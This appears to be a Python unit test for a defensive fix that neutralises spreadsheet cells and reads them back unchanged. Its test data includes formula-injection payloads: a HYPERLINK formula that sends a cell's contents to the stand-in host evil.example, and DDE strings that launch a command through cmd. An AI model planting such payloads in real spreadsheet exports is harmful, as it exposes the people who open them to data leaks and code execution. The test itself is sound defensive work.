"""Finding 8: a neutralised spreadsheet cell reads back as it was written."""



from directory.exchange.tabular import read_cell, safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def test_safe_cell_and_read_cell_are_inverse():
    for value in [HYPERLINK, CALC, SUM, MINUS, "\\tx", "plain", "'quoted", "-12.5", "+15055550100", ""]:
        assert read_cell(safe_cell(value)) == value
